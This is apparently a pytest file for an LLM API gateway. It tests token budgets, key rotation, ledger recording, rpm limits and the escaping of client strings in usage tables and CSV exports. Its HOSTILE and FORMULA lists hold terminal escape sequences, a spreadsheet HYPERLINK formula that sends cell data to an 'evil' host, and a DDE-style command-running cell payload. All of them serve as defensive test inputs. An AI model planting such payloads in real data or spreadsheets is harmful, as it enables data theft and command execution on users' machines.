"""Keys, budgets and the usage ledger against a client or operator who does the unexpected
(outside audit): a tunnelled max_tokens that is no integer, a rotated key's day, client
strings in `iop usage` and its CSV, requests without a key, count_tokens and rpm."""

from __future__ import annotations

import csv
import io
import sqlite3
import sys

import httpx
import pytest
import trio

from edge.config import KeyConfig
from scripts.stack import write_toml
from tests.conftest import BOUND, edge_config, eventually, http, model, start_edge, start_node
from tests.servers import postgres, postgres_url, redis_server  # noqa: F401  (fixtures)
from tests.test_keys import ADMIN, ADMIN_H, MESSAGES, chat, client, sim

WHOLE = b'{"object": "text_completion", "choices": [{"text": "hi"}], "usage": {"prompt_tokens": 1, "completion_tokens": 2, "total_tokens": 3}}'


def admin(edge) -> httpx.AsyncClient:
    return httpx.AsyncClient(base_url=edge.url, timeout=BOUND, headers=ADMIN_H)


# -- 1. a tunnelled max_tokens is an integer, as on chat -----------------------------------------


@pytest.mark.parametrize("field", ["max_tokens", "max_completion_tokens"])
async def test_a_tunnelled_max_tokens_that_is_no_integer_is_the_400_chat_answers(nursery, upstream, field):
    """`max_tokens: 150000.0` (or "150000", 150000.5, true) on /v1/completions passed the edge's
    max_output_tokens and was reserved as 1,024, while vLLM takes it as 150,000: now the 400
    chat answers for it, word for word, and nothing reaches the provider. Integers are as before."""
    edge = await start_edge(nursery, edge_config(max_output_tokens=1000))
    await start_node(nursery, edge, [model("p", upstream, passthrough=True), sim("c")])
    upstream.script_for("p-target", lambda body: [("status", 200, WHOLE)])
    with trio.fail_after(BOUND):
        async with http(edge) as c:
            for value in (150000.0, 150000.5, "150000", 10.0, "10", True, [10]):
                r = await c.post("/v1/completions", json={"model": "p", "prompt": "hi", field: value})
                on_chat = await c.post("/v1/chat/completions", json={"model": "c", "messages": MESSAGES, field: value})
                assert r.status_code == on_chat.status_code == 400, (value, r.text)
                assert r.json() == on_chat.json(), value
                assert r.json()["error"]["param"] == field and r.json()["error"]["type"] == "invalid_request_error"
            assert not upstream.records
            r = await c.post("/v1/completions", json={"model": "p", "prompt": "hi", field: 150000})
            assert r.status_code == 400 and r.json()["error"]["code"] == "integer_above_max_value"
            for value in (10, None):
                r = await c.post("/v1/completions", json={"model": "p", "prompt": "hi", field: value})
                assert r.status_code == 200 and r.content == WHOLE, value


async def test_a_tunnelled_request_is_admitted_on_the_larger_of_its_limits_for_each_choice(nursery, tmp_path, upstream):
    """/v1/completions reads `max_tokens` (vLLM knows no other there): `max_tokens` 2,000 beside
    `max_completion_tokens` 1 was admitted on 1 (50 at once ran 20 times a budget). A request is
    admitted on the larger, for each of `n` choices: either one in flight holds a 100-token
    budget, and the next request is refused (to retry: the budget is held, not spent)."""
    keys = [KeyConfig(id="pt", key="sk-pt", daily_tokens=100)]
    edge = await start_edge(nursery, edge_config(keys=keys, ledger=str(tmp_path / "l.sqlite3")))
    await start_node(nursery, edge, [model("p", upstream, passthrough=True)])
    upstream.script_for("p-target", lambda body: [("sleep", 1.0), ("chunk", {"content": "x"}, "stop")])
    small = {"model": "p", "prompt": "hi", "max_tokens": 1}
    with trio.fail_after(BOUND):
        async with client(edge, "sk-pt") as c:
            for seen, held in enumerate(({"max_tokens": 2000, "max_completion_tokens": 1}, {"max_tokens": 40, "n": 3})):
                async with trio.open_nursery() as n:
                    n.start_soon(lambda held=held: c.post("/v1/completions", json={**small, **held}))
                    await upstream.wait_requests(seen + 1)
                    r = await c.post("/v1/completions", json=small)
                    assert r.status_code == 429 and r.json()["error"]["code"] == "rate_limit_exceeded", (held, r.text)
                    assert "requests in flight hold the rest of its daily budget" in r.json()["error"]["message"]
    assert len(upstream.records) == 2


# -- 2. a key id's day is one budget ------------------------------------------------------------


async def _spend(edge, secret: str) -> int:
    """Chat with ``secret`` until refused; the tokens it was served."""
    served = 0
    async with client(edge, secret) as c:
        for _ in range(100):
            r = await chat(c)
            if r.status_code != 200:
                assert r.status_code == 429 and r.json()["error"]["code"] == "insufficient_quota", r.text
                return served
            served += r.json()["usage"]["total_tokens"]
    raise AssertionError("never refused")


async def _rotate(adm: httpx.AsyncClient, key_id: str, **policy) -> str:
    assert (await adm.delete(f"/v1/admin/keys/{key_id}")).status_code == 200
    r = await adm.post("/v1/admin/keys", json={"id": key_id, **policy})
    assert r.status_code == 201, r.text
    return r.json()["key"]


async def test_a_rotated_key_goes_on_with_its_ids_day(nursery, tmp_path):
    """DELETE then POST a key with the same id (a rotated secret): the new secret is refused
    over the day's budget its id spent (it started the day at 0: 660 tokens on a 300 budget),
    and `today_tokens` says the id's day; so too on an edge started after the revocation."""
    ledger = str(tmp_path / "l.sqlite3")
    edge = await start_edge(nursery, edge_config(admin_keys=[ADMIN], ledger=ledger))
    await start_node(nursery, edge, [sim("qwen-a")])
    with trio.fail_after(BOUND):
        async with admin(edge) as adm:
            secret = (await adm.post("/v1/admin/keys", json={"id": "rot", "daily_tokens": 60})).json()["key"]
            spent = await _spend(edge, secret)
            assert spent >= 60
            new = await _rotate(adm, "rot", daily_tokens=60)
            assert await _spend(edge, new) == 0
            (view,) = [k for k in (await adm.get("/v1/admin/keys")).json()["data"] if k["id"] == "rot"]
            assert view["today_tokens"] == spent
            assert (await adm.delete("/v1/admin/keys/rot")).status_code == 200
        assert await edge.edge.ledger.flush()
    edge.stop()
    # Another life of the edge, which never held the key: its id's day is read from the ledger.
    again = await start_edge(nursery, edge_config(admin_keys=[ADMIN], ledger=ledger))
    await start_node(nursery, again, [sim("qwen-a")], node_id="n2")
    with trio.fail_after(BOUND):
        async with admin(again) as adm:
            r = await adm.post("/v1/admin/keys", json={"id": "rot", "daily_tokens": 60})
            assert r.status_code == 201
            assert await _spend(again, r.json()["key"]) == 0
            # A budget that leaves room serves it: the key works, on what its id has left.
            assert (await adm.patch("/v1/admin/keys/rot", json={"daily_tokens": spent + 5})).status_code == 200
            async with client(again, r.json()["key"]) as c:
                assert (await chat(c)).status_code == 200


async def test_a_key_rotated_on_one_edge_keeps_its_day_on_both_and_in_redis(
    nursery,
    postgres_url,  # noqa: F811
    redis_server,  # noqa: F811
):
    """Two edges, one PostgreSQL key store, the day counted in Redis: a key spent on edge a and
    rotated there is refused on both edges, and the day's counter in Redis never goes down (the
    new key's 0 was added as a negative amount, and the edges then disagreed)."""
    import redis

    edges = []
    for name in ("a", "b"):
        edge = await start_edge(nursery, edge_config(admin_keys=[ADMIN], ledger=postgres_url, state=redis_server.url))
        await start_node(nursery, edge, [sim("qwen-a")], node_id=f"n-{name}")
        await eventually(lambda edge=edge: edge.edge.shared.up, "leasing from redis")
        edges.append(edge)
    a, b = edges
    r = redis.Redis.from_url(redis_server.url)
    with trio.fail_after(BOUND * 2):
        async with admin(a) as adm:
            secret = (await adm.post("/v1/admin/keys", json={"id": "rr", "daily_tokens": 60})).json()["key"]
            spent = await _spend(a, secret)
            old_sha, day = a.edge.keys.by_id["rr"].sha256, a.edge.keys.by_id["rr"].day
            day_key = f"iop:day:rr:{day}"
            await eventually(lambda: int(r.get(day_key) or 0) == spent, "edge a's day in redis")
            new = await _rotate(adm, "rr", daily_tokens=60)
        await eventually(lambda: b.edge.keys.by_id.get("rr") is not None and b.edge.keys.by_id["rr"].sha256 != old_sha)
        assert await _spend(a, new) == 0
        assert await _spend(b, new) == 0
        await trio.sleep(1.0)  # some lease rounds on both edges
        assert int(r.get(day_key)) == spent
        assert a.edge.keys.by_id["rr"].today_tokens() == b.edge.keys.by_id["rr"].today_tokens() == spent


# -- 3. client strings in `iop usage` and its CSV -------------------------------------------


HOSTILE = ["\x1b[2J\x1b[31mPWNED\x1b[0m\x1b]0;title\x07", '=HYPERLINK("http://evil/?"&A1,"click")', "a\r\nb"]
FORMULA = ["@SUM(1+1)*cmd|' /C calc'!A0", "+1+2", "-2+3", "\tx"]


async def test_client_model_names_are_escaped_in_the_table_and_no_formula_in_the_csv(nursery, tmp_path):
    """Model names a client sent (refused 404, recorded all the same): `iop usage` writes their
    control characters as escapes (they cleared the screen and forged rows), and the CSV of
    `iop usage` and of /v1/admin/usage starts no cell with = + - @ tab or CR (a spreadsheet ran
    it as a formula: OWASP's leading quote)."""
    ledger = str(tmp_path / "l.sqlite3")
    edge = await start_edge(
        nursery, edge_config(admin_keys=[ADMIN], keys=[KeyConfig(id="k", key="sk-k")], ledger=ledger)
    )
    await start_node(nursery, edge, [sim("qwen-a")])
    with trio.fail_after(BOUND):
        async with client(edge, "sk-k") as c:
            for name in HOSTILE + FORMULA:
                assert (await chat(c, name)).status_code == 404
        async with admin(edge) as adm:
            served = (await adm.get("/v1/admin/usage", params={"group_by": "model", "format": "csv"})).text
    cfg = write_toml(tmp_path / "edge.toml", {"ledger": ledger})

    async def usage(*args: str) -> str:
        with trio.fail_after(60):
            out = await trio.run_process(
                [sys.executable, "-m", "iop.cli", "usage", "--config", cfg, "--group-by", "model", *args],
                capture_stdout=True,
                capture_stderr=True,
                check=False,
            )
        assert out.returncode == 0, out.stderr
        return out.stdout.decode()

    table = await usage()
    assert not any(ch in table for ch in "\x1b\x07\r\t"), repr(table)
    assert len(table.splitlines()) == 1 + len(HOSTILE + FORMULA)  # the header and one line a name
    assert "\\x1b[2J\\x1b[31mPWNED" in table and "a\\r\\nb" in table
    for text in (served, await usage("--format", "csv")):
        cells = {row[0] for row in list(csv.reader(io.StringIO(text)))[1:]}
        assert cells == {"'" + n if n[0] in "=+-@\t" else n for n in HOSTILE + FORMULA}, cells


async def test_usage_group_by_errors_name_the_option_they_came_in(nursery, tmp_path):
    """`iop usage --group-by key,key` names `--group-by` (it said `group_by:`), the API still `group_by`."""
    cfg = write_toml(tmp_path / "edge.toml", {"ledger": str(tmp_path / "l.sqlite3")})
    sqlite3.connect(tmp_path / "l.sqlite3").close()
    with trio.fail_after(60):
        out = await trio.run_process(
            [sys.executable, "-m", "iop.cli", "usage", "--config", cfg, "--group-by", "key,key"],
            capture_stdout=True,
            capture_stderr=True,
            check=False,
        )
    assert out.returncode == 2 and out.stderr.decode().startswith("iop: --group-by: a comma-separated list")


async def test_an_admin_key_is_read_as_a_client_key_is(nursery, tmp_path):
    """Two spaces after Bearer are trimmed (they were refused); a wrong Bearer is not made
    good by a right ``x-api-key`` (it was, on the admin routes only: found from outside)."""
    edge = await start_edge(
        nursery, edge_config(admin_keys=[ADMIN], keys=[KeyConfig(id="k", key="sk-k")], ledger=str(tmp_path / "l"))
    )
    with trio.fail_after(BOUND):
        async with http(edge) as c:
            for path in ("/v1/admin/keys", "/v1/nodes", "/metrics"):
                assert (await c.get(path, headers={"Authorization": f"Bearer  {ADMIN}"})).status_code == 200, path
                assert (await c.get(path, headers={"Authorization": "Bearer  sk-wrong"})).status_code == 401, path
                assert (await c.get(path, headers={"x-api-key": ADMIN})).status_code == 200, path
                both = {"Authorization": "Bearer sk-wrong", "x-api-key": ADMIN}
                assert (await c.get(path, headers=both)).status_code == 401, path
            assert (await c.get("/v1/models", headers={"Authorization": "Bearer  sk-k"})).status_code == 200
            both = {"Authorization": "Bearer sk-wrong", "x-api-key": "sk-k"}
            assert (await c.get("/v1/models", headers=both)).status_code == 401


# -- 4. no ledger row for a request without a valid key -------------------------------------


async def test_requests_without_a_valid_key_write_no_ledger_row(nursery, tmp_path):
    """A keyed edge's 401s (no key, a wrong one, a keyless GET: before its method is judged) are
    in the access log and the metrics, not the ledger (anyone could grow the
    shared database: 1,322 rows in 5 s from one client). An open edge records every request."""
    ledger = str(tmp_path / "l.sqlite3")
    edge = await start_edge(nursery, edge_config(keys=[KeyConfig(id="k", key="sk-k")], ledger=ledger))
    await start_node(nursery, edge, [sim("qwen-a")])
    with trio.fail_after(BOUND):
        async with http(edge) as c:
            for headers in ({}, {"Authorization": "Bearer sk-wrong"}, {"x-api-key": "nope"}):
                for _ in range(10):
                    r = await c.post("/v1/chat/completions", json={"model": "m", "messages": MESSAGES}, headers=headers)
                    assert r.status_code == 401
                    assert (await c.post("/v1/completions", content=b"{}", headers=headers)).status_code == 401
            assert (await c.get("/v1/chat/completions")).status_code == 401  # (no key: before the method)
            # /metrics names every key and model: with keys, an admin key's (it was anyone's)
            assert (await c.get("/metrics")).status_code == 401
            assert (await c.get("/metrics", headers={"Authorization": "Bearer sk-k"})).status_code == 403
            metrics = edge.edge.metrics.render().decode()
        async with client(edge, "sk-k") as c:
            assert (await chat(c)).status_code == 200
            assert (await chat(c, "nope")).status_code == 404  # a keyed refusal is a record
        assert await edge.edge.ledger.flush()
    assert 'outcome="rejected_401"' in metrics
    rows = sqlite3.connect(ledger).execute("select key, status from usage order by ts").fetchall()
    assert rows == [("k", 200), ("k", 404)]
    # An open edge (no keys): every request is recorded, none has a key.
    open_ledger = str(tmp_path / "open.sqlite3")
    opened = await start_edge(nursery, edge_config(ledger=open_ledger))
    await start_node(nursery, opened, [sim("qwen-a")], node_id="n2")
    with trio.fail_after(BOUND):
        async with http(opened) as c:
            assert (await chat(c)).status_code == 200
            assert (await c.get("/v1/chat/completions")).status_code == 405
        assert await opened.edge.ledger.flush()
    assert sqlite3.connect(open_ledger).execute("select key, status from usage").fetchall() == [
        (None, 200),
        (None, 405),
    ]


# -- 5. count_tokens and rpm ----------------------------------------------------------------


async def test_count_tokens_counts_against_rpm_not_the_budget_and_is_completed(nursery, tmp_path):
    """count_tokens on an rpm 2 key: two answered, then Anthropic's 429 rate_limit_error (20 of 20
    were answered); a key over its daily budget still counts (it generates nothing); the ledger's
    `counted` rows are not `not_completed`."""
    edge = await start_edge(
        nursery,
        edge_config(
            admin_keys=[ADMIN],
            keys=[KeyConfig(id="ct", key="sk-ct", rpm=2), KeyConfig(id="poor", key="sk-poor", daily_tokens=1)],
            ledger=str(tmp_path / "l.sqlite3"),
        ),
    )
    await start_node(nursery, edge, [sim("qwen-a")])
    body = {"model": "qwen-a", "messages": MESSAGES}
    with trio.fail_after(BOUND):
        async with httpx.AsyncClient(base_url=edge.url, timeout=BOUND, headers={"x-api-key": "sk-ct"}) as c:
            answers = [await c.post("/v1/messages/count_tokens", json=body) for _ in range(5)]
            assert [r.status_code for r in answers] == [200, 200, 429, 429, 429]
            assert answers[0].headers["x-ratelimit-limit-requests"] == "2"
            refused = answers[2]
            assert refused.json()["type"] == "error" and refused.json()["error"]["type"] == "rate_limit_error"
            assert int(refused.headers["retry-after"]) >= 1
            r = await c.post("/v1/messages", json={**body, "max_tokens": 5})  # the same minute
            assert r.status_code == 429
        async with httpx.AsyncClient(base_url=edge.url, timeout=BOUND, headers={"x-api-key": "sk-poor"}) as c:
            assert (await c.post("/v1/messages", json={**body, "max_tokens": 5})).status_code == 200
            assert (await c.post("/v1/messages", json={**body, "max_tokens": 5})).status_code == 429  # budget spent
            assert (await c.post("/v1/messages/count_tokens", json=body)).status_code == 200
        async with admin(edge) as adm:
            rows = {
                row["key"]: row for row in (await adm.get("/v1/admin/usage", params={"group_by": "key"})).json()["data"]
            }
    assert edge.edge.keys.by_id["ct"].limited.get("rpm") == 4
    assert rows["ct"]["requests"] == 6 and rows["ct"]["not_completed"] == 4  # its four 429s
    assert rows["poor"]["requests"] == 3 and rows["poor"]["not_completed"] == 1


async def test_count_tokens_counts_against_an_rpm_shared_through_redis(nursery, redis_server, tmp_path):  # noqa: F811
    """The same with the key's rpm leased from Redis by two edges: 2 a minute in all."""
    keys = [KeyConfig(id="ct", key="sk-ct", rpm=2)]
    edges = []
    for name in ("a", "b"):
        edge = await start_edge(
            nursery, edge_config(keys=keys, state=redis_server.url, ledger=str(tmp_path / f"{name}.sqlite3"))
        )
        await start_node(nursery, edge, [sim("qwen-a")], node_id=f"n-{name}")
        await eventually(lambda edge=edge: edge.edge.shared.up, "leasing from redis")
        edges.append(edge)
    body = {"model": "qwen-a", "messages": MESSAGES}
    codes = []
    with trio.fail_after(BOUND):
        for edge in edges * 3:
            async with httpx.AsyncClient(base_url=edge.url, timeout=BOUND, headers={"x-api-key": "sk-ct"}) as c:
                codes.append((await c.post("/v1/messages/count_tokens", json=body)).status_code)
    assert sorted(codes) == [200, 200, 429, 429, 429, 429], codes


async def test_a_nul_in_a_model_name_does_not_stop_a_postgresql_ledger(nursery, postgres_url):  # noqa: F811
    """A key holder asking for model "a\\u0000b" (a 404): PostgreSQL's text holds no NUL, and that
    record failed every batch after it, for good (the ledger "unavailable", its admin routes 503,
    records piling up). It is stored with the NUL replaced, and the records after it too."""
    keys = [KeyConfig(id="nul", key="sk-nul")]
    edge = await start_edge(nursery, edge_config(keys=keys, admin_keys=[ADMIN], ledger=postgres_url))
    await start_node(nursery, edge, [sim("qwen-a")])
    with trio.fail_after(BOUND):
        async with client(edge, "sk-nul") as c:
            bad = await c.post("/v1/chat/completions", json={"model": "a\u0000b", "messages": MESSAGES})
            assert bad.status_code == 404
            assert (await chat(c)).status_code == 200
        assert await edge.edge.ledger.flush()
        async with http(edge, headers=ADMIN_H) as adm:
            usage = await adm.get("/v1/admin/usage", params={"group_by": "model"})
    assert usage.status_code == 200, usage.text
    assert {row["model"]: row["requests"] for row in usage.json()["data"]} == {"a\ufffdb": 1, "qwen-a": 1}


async def test_a_tunnelled_usage_past_the_request_s_bounds_is_cut(nursery, tmp_path, upstream):
    """The tunnel charges what the provider's `usage` says: 2^40 tokens spent a key's budget with
    one request. Counts past the request's bounds are cut to them (completion: its max_tokens)."""
    from edge.openai.usage import PROMPT_SLACK

    keys = [KeyConfig(id="pt", key="sk-pt", daily_tokens=10_000_000)]
    edge = await start_edge(nursery, edge_config(keys=keys, ledger=str(tmp_path / "l.sqlite3")))
    await start_node(nursery, edge, [model("p", upstream, passthrough=True)])
    lie = {"prompt_tokens": 1 << 40, "completion_tokens": 1 << 40, "total_tokens": 1 << 41}
    upstream.script_for("p-target", [("chunk", {"content": "x"}, "stop"), ("usage", lie), ("done",)])
    with trio.fail_after(BOUND):
        async with client(edge, "sk-pt") as c:
            lied = await c.post("/v1/completions", json={"model": "p", "prompt": "hi", "max_tokens": 5, "stream": True})
            assert lied.status_code == 200 and b"1099511627776" in lied.content  # relayed as the provider sent it
            after = await c.post("/v1/completions", json={"model": "p", "prompt": "hi", "max_tokens": 5})
    assert after.status_code == 200, after.text
    assert edge.edge.keys.by_id["pt"].day_used <= 2 * (PROMPT_SLACK + 100)  # (both answers lie)
